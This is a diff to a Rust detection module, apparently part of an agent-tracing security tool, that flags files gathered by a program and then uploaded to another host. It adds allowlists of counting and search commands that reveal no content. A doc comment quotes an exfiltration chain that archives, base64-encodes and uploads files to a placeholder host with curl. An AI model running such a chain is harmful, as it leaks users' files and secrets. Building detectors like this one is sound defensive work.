@@ -1,9 +1,9 @@
 //! Files that a program gathered, and that an entry may deny, were sent to another host: by the call that gathered them, or
 //! from a file in which an earlier call packed them.
 
-use std::collections::HashMap;
+use std::collections::{BTreeSet, HashMap};
 
-use agent_strace_effects::{Certainty, Effect, Kind};
+use agent_strace_effects::{Certainty, Effect, Kind, Purpose};
 use agent_strace_model::finding::{Level, RuleId};
 use agent_strace_policy::Decision;
 
@@ -11,6 +11,26 @@ use super::{Act, Hit, RULE, egress, happened};
 
 /// Files of one call that packed files are followed through: `tar c . > a; base64 a > b; curl -T b HOST`.
 const ROUNDS: usize = 8;
+
+/// Programs that show numbers, digests or kinds of files, and none of their content.
+const COUNTING: &[&str] = &[
+    "b2sum",
+    "cksum",
+    "file",
+    "md5",
+    "md5sum",
+    "sha1sum",
+    "sha224sum",
+    "sha256sum",
+    "sha384sum",
+    "sha512sum",
+    "shasum",
+    "wc",
+];
+
+/// Programs that search, and their options with which they show names or counts alone.
+const SEARCHING: &[&str] = &["egrep", "fgrep", "ggrep", "git", "grep", "rg", "ripgrep", "ug", "ugrep"];
+const WITHOUT_LINES: &[&str] = &["--count", "--files-with-matches", "--files-without-match", "--name-only"];
 
 /// Files that a call gathered, and the reason why one of them may be denied.
 #[derive(Debug, Clone)]
@@ -20,39 +40,38 @@ struct Gathered {
     reason: String,
 }
 
+/// What a call read that an entry may deny, by how it goes on from there.
+#[derive(Debug, Default)]
+struct Sources {
+    /// The shell passes it on to a connection.
+    sent: Option<Gathered>,
+    /// The shell passes it on to a file.
+    stored: Option<Gathered>,
+    /// One program reads it and does more: by the command.
+    of_programs: HashMap<u32, Gathered>,
+}
+
 pub(super) fn check(acts: &[Act<'_>], hits: &mut Vec<Hit>) {
     let mut packed: HashMap<&str, Gathered> = HashMap::new();
     let mut from = 0;
     while let Some(first) = acts.get(from) {
         let length = acts.iter().skip(from).take_while(|act| act.event == first.event).count();
         let call = acts.get(from..from + length).unwrap_or_default();
-        send(call, from, &sources(call, &mut packed), hits);
+        let sources = pack(call, &mut packed);
+        send(call, from, &sources, hits);
         from += length;
     }
 }
 
-/// What a call read that an entry may deny, also from files in which it packed them before.
-fn sources<'a>(call: &[Act<'a>], packed: &mut HashMap<&'a str, Gathered>) -> Vec<(&'a Effect, Gathered)> {
-    for _ in 0..ROUNDS {
-        let found: Vec<_> = call.iter().filter_map(|act| Some((act.effect, source(act, packed)?))).collect();
-        let known = packed.len();
-        pack(call, &found, packed);
-        if packed.len() == known {
-            return found;
-        }
-    }
-    call.iter().filter_map(|act| Some((act.effect, source(act, packed)?))).collect()
-}
-
 /// Reports the first connection to each host that gets what the call gathered.
-fn send(call: &[Act<'_>], from: usize, sources: &[(&Effect, Gathered)], hits: &mut Vec<Hit>) {
-    let mut reported = std::collections::BTreeSet::new();
+fn send(call: &[Act<'_>], from: usize, sources: &Sources, hits: &mut Vec<Hit>) {
+    let mut reported = BTreeSet::new();
     for (at, act) in call.iter().enumerate() {
         // A connection that the policy denies is an error without this.
         let host = egress(act).filter(|_| act.judgement.decision != Decision::Denied);
         let Some(host) = host else { continue };
-        let is_sent = |read: &Effect| read.origin.sent && act.effect.origin.sent || is_of_one_program(read, act.effect);
-        let Some((_, found)) = sources.iter().find(|(read, _)| is_sent(read)) else { continue };
+        let passed = sources.sent.as_ref().filter(|_| act.effect.origin.sent);
+        let Some(found) = passed.or_else(|| sources.of_program(act.effect)) else { continue };
         if !reported.insert(host.clone()) {
             continue;
         }
@@ -65,36 +84,96 @@ fn send(call: &[Act<'_>], from: usize, sources: &[(&Effect, Gathered)], hits: &m
     }
 }
 
-/// Remembers the files in which the call stores what it gathered, unless they are known.
-fn pack<'a>(call: &[Act<'a>], sources: &[(&Effect, Gathered)], packed: &mut HashMap<&'a str, Gathered>) {
-    for act in call.iter().filter(|act| happened(act) && act.effect.certainty == Certainty::Exact) {
-        let Kind::Write(target) = &act.effect.kind else { continue };
-        let is_stored =
-            |read: &Effect| read.origin.stored && act.effect.origin.stored || is_of_one_program(read, act.effect);
-        if let Some((_, found)) = sources.iter().find(|(read, _)| is_stored(read)) {
-            packed.entry(&target.path).or_insert_with(|| found.clone());
+/// Remembers the files in which the call stores what it gathered, and forgets those that it replaced or deleted.
+fn pack<'a>(call: &[Act<'a>], packed: &mut HashMap<&'a str, Gathered>) -> Sources {
+    let event = call.first().map_or(0, |act| act.event);
+    let mut sources = Sources::of(call, packed);
+    for _ in 0..ROUNDS {
+        let known = packed.len();
+        for (act, path) in call.iter().filter_map(|act| Some((act, written(act)?))) {
+            let passed = sources.stored.as_ref().filter(|_| act.effect.origin.stored);
+            if let Some(found) = passed.or_else(|| sources.of_program(act.effect)) {
+                packed.entry(path).or_insert_with(|| found.clone());
+            }
         }
+        if packed.len() == known {
+            break;
+        }
+        sources = Sources::of(call, packed);
+    }
+    for (act, path) in call.iter().filter_map(|act| Some((act, written(act)?))) {
+        let is_kept = act.effect.origin.stored && sources.stored.is_some() || sources.of_program(act.effect).is_some();
+        // It may not have run.
+        if !is_kept && act.effect.origin.ran && packed.get(path).is_some_and(|found| found.event < event) {
+            packed.remove(path);
+        }
+    }
+    sources
+}
+
+/// The file that an act writes or deletes for sure.
+fn written<'a>(act: &Act<'a>) -> Option<&'a str> {
+    let (Kind::Write(target) | Kind::Delete(target)) = &act.effect.kind else { return None };
+    let is_sure = happened(act) && act.effect.certainty == Certainty::Exact && !target.subtree;
+    is_sure.then_some(target.path.as_str())
+}
+
+impl Sources {
+    fn of(call: &[Act<'_>], packed: &HashMap<&str, Gathered>) -> Self {
+        let mut all = Self::default();
+        for act in call {
+            let Some(found) = source(act, call, packed) else { continue };
+            let origin = act.effect.origin;
+            if origin.sent {
+                all.sent.get_or_insert_with(|| found.clone());
+            }
+            if origin.stored {
+                all.stored.get_or_insert_with(|| found.clone());
+            }
+            if let Some(parent) = origin.parent {
+                all.of_programs.entry(parent).or_insert(found);
+            }
+        }
+        all
+    }
+
+    /// What the program read that did this, too: it is not the shell that connects the two.
+    fn of_program(&self, effect: &Effect) -> Option<&Gathered> {
+        self.of_programs.get(&effect.origin.parent?)
     }
 }
 
 /// What an act read that an entry may deny: files that its program gathered, or a file in which they were packed.
-fn source(act: &Act<'_>, packed: &HashMap<&str, Gathered>) -> Option<Gathered> {
+fn source(act: &Act<'_>, call: &[Act<'_>], packed: &HashMap<&str, Gathered>) -> Option<Gathered> {
     let Kind::Read(target) = &act.effect.kind else { return None };
-    if !happened(act) || act.effect.origin.named {
+    if !happened(act) || act.effect.origin.named || shows_no_content(act, call) {
         return None;
     }
     let is_open = act.judgement.decision == Decision::Unresolved
         && act.judgement.rule == RuleId::ScopeUnresolved
         && act.judgement.level < Level::Error;
     let open = act.judgement.left_open.as_ref().map(|open| &open.reason);
-    let reason = open.or_else(|| is_open.then_some(&act.judgement.reason)).filter(|_| act.effect.gathered.is_some());
+    let is_gathered = matches!(act.effect.gathered, Some(Purpose::Search | Purpose::Whole));
+    let reason = open.or_else(|| is_open.then_some(&act.judgement.reason)).filter(|_| is_gathered);
     match reason {
         Some(reason) => Some(Gathered { event: act.event, files: target.shown().into_owned(), reason: reason.clone() }),
         None => packed.get(target.path.as_str()).cloned(),
     }
 }
 
-/// One program does both: it is not the shell that connects them.
-fn is_of_one_program(read: &Effect, other: &Effect) -> bool {
-    read.origin.parent.is_some() && read.origin.parent == other.origin.parent
+/// The program shows numbers or names, which are no content.
+fn shows_no_content(act: &Act<'_>, call: &[Act<'_>]) -> bool {
+    let parent = act.effect.origin.parent.and_then(|parent| call.get(parent as usize));
+    let Some(Kind::Execute(execution)) = parent.map(|parent| &parent.effect.kind) else { return false };
+    let mut words = execution.argv.iter().map(|word| word.text.as_str());
+    let name = words.next().map_or("", |program| program.rsplit('/').next().unwrap_or(program));
+    if COUNTING.contains(&name) {
+        return true;
+    }
+    let has_short = |word: &str| {
+        let letters = word.strip_prefix('-').unwrap_or_default();
+        letters.contains(['c', 'l', 'L']) && letters.chars().all(|letter| "EFHILPachiloqrsw".contains(letter))
+    };
+    let rest: Vec<&str> = words.skip_while(|word| name == "git" && *word != "grep").collect();
+    SEARCHING.contains(&name) && rest.iter().any(|word| WITHOUT_LINES.contains(word) || has_short(word))
 }
